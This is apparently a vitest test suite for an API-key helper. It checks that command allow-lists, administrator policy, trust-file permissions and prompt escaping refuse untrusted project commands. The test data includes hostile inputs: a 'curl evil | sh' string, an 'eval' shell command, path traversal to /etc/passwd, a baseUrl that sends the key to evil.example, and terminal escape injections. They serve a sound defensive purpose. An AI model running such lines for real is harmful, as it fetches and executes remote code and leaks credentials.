import {
  chmodSync,
  chownSync,
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync
} from "node:fs"
import { dirname, join } from "node:path"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Option from "effect/Option"
import type * as Scope from "effect/Scope"
import * as fc from "fast-check"
import { isApiKeyError } from "../../src/ApiKeyError.js"
import { itemsIn } from "../../src/cli/trust.js"
import { question } from "../../src/cli/trustQuestion.js"
import * as HelperPolicy from "../../src/HelperPolicy.js"
import { jsonSchema } from "../../src/internal/config/file.js"
import { escaped } from "../../src/internal/redact/terminal.js"
import { attempt, ran, trustFile } from "../support/attempt.js"
import { itOnFullDisk, withFullDisk } from "../support/fullDisk.js"
import { type Sandbox, sandbox, within } from "../support/sandbox.js"

const scenario = <A, E>(name: string, test: (self: Sandbox) => Effect.Effect<A, E, Scope.Scope>) =>
  it.scopedLive(name, () => Effect.flatMap(sandbox, test))

const user = "home/.config/effect-apikey/effect-apikey.jsonc"
const key = (source: unknown, rest: object = {}) => ({ providers: { openai: { key: source, ...rest } } })

const isRefused = (outcome: unknown): boolean => isApiKeyError(outcome) && outcome._tag === "CommandNotTrusted"

describe("a command line given as one string", () => {
  scenario("shows no argument where its program is not found or cannot be executed", (self) =>
    Effect.gen(function* () {
      symlinkSync("loop", join(self.project, "loop"))
      const [absent, looped] = yield* Effect.forEach(["absent", "loop"], (folder) =>
        Effect.gen(function* () {
          const command = [`${self.project}/${folder}/get --token hunter2-secret`]
          yield* trustFile(self, self.write("project/effect-apikey.jsonc", key({ command })))
          return yield* attempt(self, "openai")
        })
      )
      for (const [outcome, tag] of [
        [absent, "CommandNotFound"],
        [looped, "CommandNotExecutable"]
      ] as const) {
        assert.isTrue(isApiKeyError(outcome) && outcome._tag === tag, String(outcome))
        assert.notInclude(`${JSON.stringify(outcome)}${String(outcome)}`, "hunter2")
      }
    })
  )
})

describe("an allow list names a program with a pattern for each of its arguments", () => {
  const pattern = ["op", "read", "op://Work/*"]
  const rows: ReadonlyArray<
    readonly [argv: ReadonlyArray<string>, pattern: ReadonlyArray<HelperPolicy.ArgumentPattern>, fits: boolean]
  > = [
    [["op", "read", "op://Work/OpenAI"], pattern, true],
    [["op", "read", "op://Work/OpenAI/key"], pattern, false],
    [["op", "read", "op://Work/OpenAI/key"], ["op", "read", "op://Work/**"], true],
    [["op", "read", "op://Private/OpenAI/key"], pattern, false],
    [["op", "read", "op://Work/../Private/key"], pattern, false],
    [["op", "read", "op://Work/x", "--account=evil"], pattern, false],
    [["op", "read"], pattern, false],
    [["op", "write", "op://Work/x"], pattern, false],
    [["op", "--config=x"], ["op", "*"], false],
    [["op", "plain"], ["op", "*"], true],
    [["op", "a.b"], ["op", "a*b"], false],
    [["op", "ax.b"], ["op", "a*b"], true],
    [["op", "axb"], ["op", "a.b"], false],
    [["op", "a\nb"], ["op", "a*"], false],
    [["op", "a/b/c/key"], ["op", "a/*/*/key"], true],
    [["op", "a/b/key"], ["op", "a/*/*/key"], false],
    // A star is some text.
    [["op", "abab"], ["op", "ab*ab"], false],
    [["op", "ab-xab"], ["op", "ab*ab"], false],
    [["op", "abx-ab"], ["op", "ab*ab"], true],
    [["op", "aba"], ["op", "ab*ba"], false],
    [["op", "aXbXb"], ["op", "a*b"], true],
    // Going back for each star would take longer than anybody lives.
    [["op", `op://${"/".repeat(100_000)}`], ["op", "op://*/*/*/*/*/key"], false],
    [["op", "a".repeat(100_000)], ["op", "*a*a*a*a*b"], false],
    [["op", "a/".repeat(50_000)], ["op", "**/**/**/**/b"], false],
    // One segment of plain characters.
    [["curl", "https://h/kv/work/a"], ["curl", "https://h/kv/work/*"], true],
    [["curl", "https://h/kv/work/a/b"], ["curl", "https://h/kv/work/*"], false],
    [["curl", "https://h/kv/work/a.json"], ["curl", "https://h/kv/work/*.json"], true],
    ...[
      "",
      ".",
      "..",
      "...",
      "..?x",
      "a?x",
      "%2e%2e",
      "..;",
      ".. ",
      "{..,a}",
      "[a-b]",
      "a\\b",
      "é",
      "-x",
      "@x",
      "a:b"
    ].map((text) => [["curl", `https://h/kv/work/${text}`], ["curl", "https://h/kv/work/*"], false] as const),
    [["tool", "x/.."], ["tool", "x/.*"], false],
    [["tool", "x/..a"], ["tool", "x/*"], true],
    [["tool", "@/etc/passwd"], ["tool", "*"], false],
    // Several segments.
    [["op", "op://Work/a/b/key"], ["op", "op://Work/**"], true],
    [["op", "op://Work/a"], ["op", "op://Work/**"], true],
    [["op", "op://Work/"], ["op", "op://Work/**"], false],
    [["op", "op://Work/a//b"], ["op", "op://Work/**"], false],
    [["op", "op://Work/a/../../Private/key"], ["op", "op://Work/**"], false],
    [["op", "op://Work/a/-b"], ["op", "op://Work/**"], false],
    [["op", "op://Work/a/b/key"], ["op", "op://Work/**/key"], true],
    [["op", "--path=a/b"], ["op", "--path=**"], true],
    // Any text.
    [["op", "--anything=../x y"], ["op", { any: true }], true],
    [["op", ""], ["op", { any: true }], true],
    [["op"], ["op", { any: true }], false]
  ]
  for (const [argv, entry, fits] of rows) {
    it(`${JSON.stringify(argv)} ${fits ? "fits" : "does not fit"} ${JSON.stringify(entry)}`, () => {
      assert.strictEqual(HelperPolicy.argumentsMatch(entry, argv), fits)
      assert.strictEqual(HelperPolicy.argumentsMatch(argv)(entry), fits)
    })
  }

  it("without a star only the very same argv fits", () => {
    const argv = fc.array(
      fc.string().filter((it) => !it.includes("*")),
      { minLength: 1, maxLength: 4 }
    )
    fc.assert(
      fc.property(argv, argv, (a, b) => {
        const same = a.length === b.length && a.slice(1).every((part, index) => part === b[index + 1])
        assert.strictEqual(HelperPolicy.argumentsMatch(a, b), same)
      })
    )
  })

  scenario("covers a project's command, by the program's path", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/op", "users-op")
      self.env["PATH"] = [join(self.root, "bin"), process.env["PATH"]].join(":")
      self.write(user, { policy: { allow: [["op", "read", "op://Work/*"]] } })
      self.write("project/effect-apikey.jsonc", key({ command: ["op", "read", "op://Work/key"] }))
      assert.strictEqual(yield* attempt(self, "openai"), "users-op")
      self.write("project/effect-apikey.jsonc", key({ command: [program, "read", "op://Work/key"] }))
      assert.strictEqual(yield* attempt(self, "openai"), "users-op")
      const other = self.program("other/op", "other-op")
      self.write("project/effect-apikey.jsonc", key({ command: [other, "read", "op://Work/key"] }))
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
      self.program("project/op", "projects-op")
      self.write("project/effect-apikey.jsonc", key({ command: ["./op", "read", "op://Work/key"] }))
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
      // Not even by its very path: what it does is the project's to say.
      const projects = join(self.project, "op")
      self.link("project/link", other)
      self.write(user, { policy: { allow: [[projects], [join(self.project, "link")]] } })
      for (const argv of [["./op"], [projects], ["./link"]]) {
        self.write("project/effect-apikey.jsonc", key({ command: argv }))
        assert.isTrue(isRefused(yield* attempt(self, "openai")), String(argv))
      }
      assert.deepStrictEqual(ran(self), ["users-op"])
    })
  )

  for (const name of ["~/bin/op", "../../bin/op"]) {
    scenario(`by a path as it stands in the rest of a configuration: ${name}`, (self) =>
      Effect.gen(function* () {
        const program = self.program("home/bin/op", "users-op")
        self.write(user, { policy: { allow: [[name, "read"]] } })
        self.write("project/effect-apikey.jsonc", key({ command: [program, "read"] }))
        assert.strictEqual(yield* attempt(self, "openai"), "users-op")
      })
    )
  }

  scenario("starts a path from the folder where its file really is, as a command's in the same file does", (self) =>
    Effect.gen(function* () {
      self.program("home/dotfiles/bin/t", "t-key")
      self.write("home/dotfiles/ea/effect-apikey.jsonc", {
        ...key({ command: ["../bin/t"] }),
        policy: { user: "allow", allow: [["../bin/t"]] }
      })
      self.link("home/.config/effect-apikey", "../dotfiles/ea")
      assert.strictEqual(yield* attempt(self, "openai"), "t-key")
    })
  )

  scenario("does not when the project sets env, cwd, path or what is said on stdin, or where the key goes", (self) =>
    Effect.gen(function* () {
      self.program("bin/op", "users-op")
      self.env["PATH"] = [join(self.root, "bin"), process.env["PATH"]].join(":")
      self.write(user, { policy: { allow: [["op", "read"]] } })
      const argv = ["op", "read"]
      const rows = [
        key({ command: { argv, env: { A: "b" } } }),
        key({ command: { argv, cwd: "." } }),
        key({ command: { argv, search: "login-shell" } }),
        key({ command: { argv, inheritEnv: false } }),
        key({ command: { argv, interactive: "always" } }),
        key({ command: { argv, eraseOnReject: true } }),
        key({ command: { argv, format: { name: "git-credential", url: "https://bank.example/x" } } }),
        key({ command: argv }, { baseUrl: "https://evil.example" })
      ]
      for (const row of rows) {
        self.write("project/effect-apikey.jsonc", row)
        assert.isTrue(isRefused(yield* attempt(self, "openai")), JSON.stringify(row))
      }
      self.write("project/effect-apikey.jsonc", key({ command: { argv, timeout: "20 s", format: "text" } }))
      assert.strictEqual(yield* attempt(self, "openai"), "users-op")
    })
  )
})

describe("the administrator's policy wins over the user's", () => {
  scenario("deny: no project's command runs, trusted or not", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.write("project/effect-apikey.jsonc", key({ command: [program] }))
      yield* trustFile(self, self.projectFile)
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
      self.write("etc/policy.jsonc", { project: "deny" })
      self.write(user, { policy: { project: "trust", allow: [[program]] } })
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
    })
  )

  scenario("deny: not even what is on his own list", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.write("project/effect-apikey.jsonc", key({ command: [program] }))
      self.write("etc/policy.jsonc", { allow: [[program]] })
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
      self.write("etc/policy.jsonc", { project: "deny", allow: [[program]] })
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
    })
  )

  scenario("while it cannot be read a project is given nothing of the user's, and the user's own key stays", (self) =>
    Effect.gen(function* () {
      self.write("home/secret", "sk-secret")
      self.env["AWS_SECRET_ACCESS_KEY"] = "sk-secret"
      self.write("etc/policy.jsonc", "{")
      for (const source of [{ env: "AWS_SECRET_ACCESS_KEY" }, { file: "~/secret" }, { literal: "sk-projects" }]) {
        self.write("project/effect-apikey.jsonc", key(source))
        const outcome = yield* attempt(self, "openai")
        assert(isApiKeyError(outcome) && outcome._tag === "ConfigInvalid", String(outcome))
      }
      self.write(user, { providers: { mine: { key: { file: "~/secret" } } } })
      assert.strictEqual(yield* attempt(self, "mine"), "sk-secret")
    })
  )

  scenario("allow: a list takes the place of the user's list and of trust", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.write("project/effect-apikey.jsonc", key({ command: [program] }))
      yield* trustFile(self, self.projectFile)
      self.write("etc/policy.jsonc", { project: "allow", allow: [] })
      self.write(user, { policy: { allow: [[program]] } })
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
      self.write("etc/policy.jsonc", { project: "allow", allow: [[program]] })
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
    })
  )

  scenario("without a list of his own, no command is on one: the user's list does not count", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.write(user, { ...key({ command: [program] }), policy: { allow: [[program]] } })
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
      self.write("etc/policy.jsonc", { user: "allow" })
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
    })
  )

  scenario("user: the user's own commands run only from the list", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.write(user, key({ command: [program] }))
      self.write("etc/policy.jsonc", { user: "allow", allow: [["other"]] })
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
      self.write("etc/policy.jsonc", { user: "allow", allow: [[program]] })
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
    })
  )

  scenario("one that is wrong, or that others may write to, refuses commands", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.write(user, key({ command: [program] }))
      self.write("etc/policy.jsonc", `{\n "projekt": "deny" }`)
      const wrong = yield* attempt(self, "openai")
      assert(isApiKeyError(wrong) && wrong._tag === "ConfigInvalid")
      assert.strictEqual(wrong.message, `${self.systemFile}:2:2: "projekt" is not known here`)
      assert.strictEqual(wrong.hint, `Did you mean "project"?`)
      self.write("etc/policy.jsonc", {}, 0o602)
      const open = yield* attempt(self, "openai")
      assert(isApiKeyError(open) && open._tag === "ConfigInvalid")
      assert.include(open.message, "others can write to it")
      assert.deepStrictEqual(ran(self), [])
    })
  )
})

describe("a policy that is wrong says what is expected there", () => {
  for (const [policy, problem] of [
    [{ allow: [[]] }, "expected a program, and a pattern for each of its arguments"],
    [{ allow: "op" }, "expected a list of commands, each a list of the program and patterns for its arguments"],
    [[], "expected an object that says which commands may run"]
  ] as const) {
    scenario(JSON.stringify(policy), (self) =>
      Effect.gen(function* () {
        const program = self.program("bin/tool", "tool-key")
        self.write(user, { policy })
        self.write("project/effect-apikey.jsonc", key({ command: [program] }))
        const outcome = yield* attempt(self, "openai")
        assert(isApiKeyError(outcome) && outcome._tag === "ConfigInvalid", String(outcome))
        assert.include(outcome.message, problem)
      })
    )
  }
})

describe("the file of what is trusted", () => {
  const prepared = (self: Sandbox): string => {
    const program = self.program("bin/tool", "tool-key")
    self.write("project/effect-apikey.jsonc", key({ command: [program, "an-argument-that-is-secret"] }))
    return program
  }

  const refusal = (self: Sandbox) =>
    Effect.map(Effect.flip(trustFile(self, self.projectFile)), (error) => {
      assert(error._tag === "SourceUnreadable", error.message)
      return error.code
    })

  scenario("is the user's alone, and holds no argument", (self) =>
    Effect.gen(function* () {
      prepared(self)
      yield* trustFile(self, self.projectFile)
      const { mode, uid } = statSync(self.trustFile)
      assert.strictEqual(mode & 0o777, 0o600)
      assert.strictEqual(statSync(dirname(self.trustFile)).mode & 0o777, 0o700)
      if (process.getuid !== undefined) assert.strictEqual(uid, process.getuid())
      assert.notInclude(readFileSync(self.trustFile, "utf8"), "an-argument-that-is-secret")
      assert.deepStrictEqual(readdirSync(dirname(self.trustFile)), ["trust.json"])
    })
  )

  scenario("is replaced as a whole: who has it open goes on with what was", (self) =>
    Effect.gen(function* () {
      prepared(self)
      yield* trustFile(self, self.projectFile)
      const before = readFileSync(self.trustFile, "utf8")
      const descriptor = openSync(self.trustFile, "r")
      yield* trustFile(self, self.write("other/effect-apikey.jsonc", key({ command: [join(self.root, "bin/tool")] })))
      assert.strictEqual(readFileSync(descriptor, "utf8"), before)
      closeSync(descriptor)
      assert.notStrictEqual(readFileSync(self.trustFile, "utf8"), before)
    })
  )

  scenario("is refused when it is a link, or its folder is", (self) =>
    Effect.gen(function* () {
      prepared(self)
      yield* trustFile(self, self.projectFile)
      const folder = dirname(self.trustFile)
      renameSync(self.trustFile, join(self.root, "elsewhere.json"))
      self.link("home/.local/share/effect-apikey/trust.json", join(self.root, "elsewhere.json"))
      assert.strictEqual(yield* refusal(self), "it is a symbolic link")
      const outcome = yield* attempt(self, "openai")
      assert(isApiKeyError(outcome) && outcome._tag === "SourceUnreadable")
      rmSync(folder, { recursive: true })
      mkdirSync(join(self.root, "real"))
      self.link("home/.local/share/effect-apikey", join(self.root, "real"))
      assert.strictEqual(yield* refusal(self), "it is a symbolic link")
    })
  )

  scenario("is refused when others may write to it or a folder above it, or it is no plain file or damaged", (self) =>
    Effect.gen(function* () {
      prepared(self)
      yield* trustFile(self, self.projectFile)
      const folder = dirname(self.trustFile)
      chmodSync(self.trustFile, 0o620)
      assert.strictEqual(yield* refusal(self), "others can write to it")
      chmodSync(self.trustFile, 0o600)
      chmodSync(folder, 0o703)
      assert.strictEqual(yield* refusal(self), "others can write to it")
      chmodSync(folder, 0o700)
      chmodSync(self.home, 0o757)
      assert.strictEqual(yield* refusal(self), "others can write to it")
      assert(isApiKeyError(yield* attempt(self, "openai")))
      chmodSync(self.home, 0o755)
      writeFileSync(self.trustFile, "{")
      assert.strictEqual(yield* refusal(self), "it is damaged")
      rmSync(self.trustFile)
      mkdirSync(self.trustFile)
      assert.strictEqual(yield* refusal(self), "it is not a regular file")
      assert.deepStrictEqual(ran(self), [])
    })
  )

  scenario("is refused when somebody else owns it", (self) =>
    Effect.gen(function* () {
      if (process.getuid?.() !== 0) return console.log("skipped: only root can give a file to somebody else")
      prepared(self)
      yield* trustFile(self, self.projectFile)
      chownSync(self.trustFile, 65_534, 65_534)
      assert.strictEqual(yield* refusal(self), "another user owns it")
      chownSync(self.trustFile, 0, 0)
      chownSync(dirname(self.trustFile), 65_534, 65_534)
      assert.strictEqual(yield* refusal(self), "another user owns it")
    })
  )

  scenario("is locked while it is changed: of many at once none is lost", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      const files = Array.from({ length: 20 }, (_, index) =>
        self.write(`p${index}/effect-apikey.jsonc`, key({ command: [program] }))
      )
      yield* Effect.forEach(files, (file) => trustFile(self, file), { concurrency: "unbounded", discard: true })
      const trusted = yield* HelperPolicy.trusted.pipe(within(self))
      assert.deepStrictEqual(trusted.map(({ file }) => file).sort(), [...files].sort())
    })
  )

  scenario("a policy that is a link to nowhere is none that can be read: nothing of a project's counts", (self) =>
    Effect.gen(function* () {
      prepared(self)
      yield* trustFile(self, self.projectFile)
      self.link("etc/policy.jsonc", join(self.root, "gone"))
      const outcome = yield* attempt(self, "openai")
      assert(isApiKeyError(outcome) && outcome._tag === "ConfigInvalid", String(outcome))
      assert.include(outcome.message, "leads nowhere")
      assert.deepStrictEqual(ran(self), [])
    })
  )

  scenario("says so when the lock stays", (self) =>
    Effect.gen(function* () {
      prepared(self)
      self.write("home/.local/share/effect-apikey/trust.json.lock", "")
      chmodSync(dirname(self.trustFile), 0o700)
      const error = yield* Effect.flip(trustFile(self, self.projectFile))
      assert.include(error.message, "another process has it locked")
      assert.include(error.hint, `rm ${self.trustFile}.lock`)
      assert.isFalse(existsSync(self.trustFile))
    })
  )

  itOnFullDisk("keeps what was trusted on a full disk, and says that there is no space", () =>
    Effect.gen(function* () {
      const self = yield* sandbox
      prepared(self)
      const many = Array.from({ length: 60 }, (_, at) => [`provider-${at}`, { key: { command: ["tool"] } }])
      const other = self.write("other/effect-apikey.jsonc", { providers: Object.fromEntries(many) })
      const trust = (file: string) => Effect.runPromise(Effect.either(trustFile(self, file)))
      const prepare = async () => assert.isTrue(Either.isRight(await trust(self.projectFile)))
      yield* Effect.promise(() =>
        withFullDisk(dirname(self.trustFile), { free: 4096, prepare }, async () => {
          const before = readFileSync(self.trustFile, "utf8")
          const error = Either.getOrThrow(Either.flip(await trust(other)))
          assert.include(error.message, "ENOSPC")
          assert.include(error.hint, "Free some space")
          assert.strictEqual(readFileSync(self.trustFile, "utf8"), before)
          assert.deepStrictEqual(readdirSync(dirname(self.trustFile)).sort(), ["filler", "trust.json"])
        })
      )
    }).pipe(Effect.scoped, Effect.runPromise)
  )

  scenario("forgets a file that is revoked", (self) =>
    Effect.gen(function* () {
      prepared(self)
      yield* trustFile(self, self.projectFile)
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
      assert.strictEqual(yield* HelperPolicy.revoke(self.projectFile).pipe(within(self)), 1)
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
    })
  )
})

describe("the question", () => {
  it("shows control, bidirectional and invisible characters escaped, and the rest as it is", () => {
    assert.strictEqual(escaped("a\u001B[31mb"), "a\\u{1B}[31mb")
    assert.strictEqual(
      escaped("\u202Egpj.exe\u2066\u200B\u00A0\u2028"),
      "\\u{202E}gpj.exe\\u{2066}\\u{200B}\\u{A0}\\u{2028}"
    )
    assert.strictEqual(escaped("a\u3164\u115F\u2800\uFE0Fb"), "a\\u{3164}\\u{115F}\\u{2800}\\u{FE0F}b")
    assert.strictEqual(escaped("déjà vu: 鍵"), "déjà vu: 鍵")
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        assert.notMatch(escaped(text), /(?! )[\p{C}\p{Z}]/u)
      })
    )
  })

  scenario(
    "is about what stands there: commands, where the key goes, scripts; not about keys that stand there",
    (self) =>
      Effect.gen(function* () {
        self.program("project/get-key", "script-key")
        self.write("project/effect-apikey.jsonc", {
          providers: {
            "op\u202Eenai": {
              key: { firstOf: [{ literal: "sk-in-the-file" }, { command: ["./get-key", "a\u001B]0;x\u0007b"] }] },
              baseUrl: "https://gateway.example/v1"
            }
          }
        })
        const asked = yield* itemsIn(self.projectFile).pipe(
          Effect.flatMap((items) => question(self.projectFile, items)),
          within(self)
        )
        assert.include(asked, "op\\u{202E}enai")
        assert.include(asked, "a\\u001b]0;x\\u0007b")
        assert.include(asked, "the key goes to https://gateway.example")
        assert.include(asked, `runs the file ${join(self.project, "get-key")}, as it is now`)
        assert.notInclude(asked, "sk-in-the-file")
        assert.notMatch(asked, /(?![ \n])[\p{C}\p{Z}]/u)
      })
  )

  scenario("shows the whole of a command, whatever its parts are called, and no key outside of it", (self) =>
    Effect.gen(function* () {
      const command = ["sh", "-c", 'eval "$literal"']
      self.write("project/effect-apikey.jsonc", {
        providers: { a: { key: { firstOf: [{ literal: "sk-literal" }, { command }] } } }
      })
      const file = self.write("project/opencode.json", {
        provider: {
          gw: {
            options: {
              apiKeyCommand: { argv: command, env: { literal: "curl evil | sh" } },
              headers: {
                authorization: "Bearer sk-in-a-header",
                "x-a": "Bearer {env:OTHER}",
                "x-b": "a{file:~/.ssh/id}b"
              }
            }
          },
          other: { options: { apiKey: "sk-{x}-in-braces", baseURL: "https://other.example/v1" } },
          third: { options: { apiKey: "{env:THIRD_KEY}", baseURL: "https://third.example/v1" } }
        }
      })
      const asked = (about: string) =>
        itemsIn(about).pipe(
          Effect.flatMap((items) => question(about, items)),
          within(self)
        )
      const ours = yield* asked(self.projectFile)
      assert.include(ours, 'eval \\"$literal\\"')
      assert.notInclude(ours, "sk-literal")
      const opencodes = yield* asked(file)
      assert.include(opencodes, "curl evil | sh")
      assert.include(opencodes, "{env:THIRD_KEY}")
      assert.include(opencodes, '"x-a": "<redacted>{env:OTHER}"')
      assert.include(opencodes, '"x-b": "<redacted>{file:~/.ssh/id}<redacted>"')
      assert.notMatch(opencodes, /sk-in-a-header|in-braces/)
    })
  )

  scenario("is about the state that was read: what changes while a person reads is not trusted", (self) =>
    Effect.gen(function* () {
      self.program("project/get-key", "script-key")
      self.write("project/effect-apikey.jsonc", key({ command: ["./get-key"] }))
      const items = yield* itemsIn(self.projectFile).pipe(within(self))
      self.program("project/get-key", "evil-key")
      yield* HelperPolicy.trust(items).pipe(within(self))
      assert.isTrue(isRefused(yield* attempt(self, "openai")))
      assert.deepStrictEqual(ran(self), [])
    })
  )
})

describe("time of check", () => {
  scenario("the path that the policy found is what is run", (self) =>
    Effect.gen(function* () {
      const program = self.program("bin/tool", "tool-key")
      self.env["PATH"] = [join(self.root, "bin"), process.env["PATH"]].join(":")
      self.write("project/effect-apikey.jsonc", key({ command: ["tool"] }))
      yield* trustFile(self, self.projectFile)
      const grant = yield* Effect.flatMap(HelperPolicy.HelperPolicy, (policy) =>
        Effect.flatMap(itemsIn(self.projectFile), (items) =>
          policy.authorize({
            provider: "openai",
            source: { _tag: "Command", command: { argv: ["tool"] } },
            provenance: HelperPolicy.Provenance.Project({
              file: self.projectFile,
              root: self.project,
              line: 1,
              column: 1
            }),
            destination: Option.none(),
            declarations: items.map(({ declaration }) => declaration)
          })
        )
      ).pipe(within(self))
      assert.strictEqual(grant.options.program, program)
      assert.strictEqual(grant.options.cwd, self.home)
      assert.notInclude(String(grant.options.env?.["PATH"]), self.project)
      // The PATH of this very process has no such program: only what the policy found can be what runs.
      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
    })
  )
})

describe("the JSON Schema", () => {
  it("that the package ships is the one that is made from the code", () => {
    const shipped = JSON.parse(
      readFileSync(join(import.meta.dirname, "../../schema/effect-apikey.schema.json"), "utf8")
    )
    assert.deepStrictEqual(shipped, JSON.parse(JSON.stringify(jsonSchema)))
  })
})
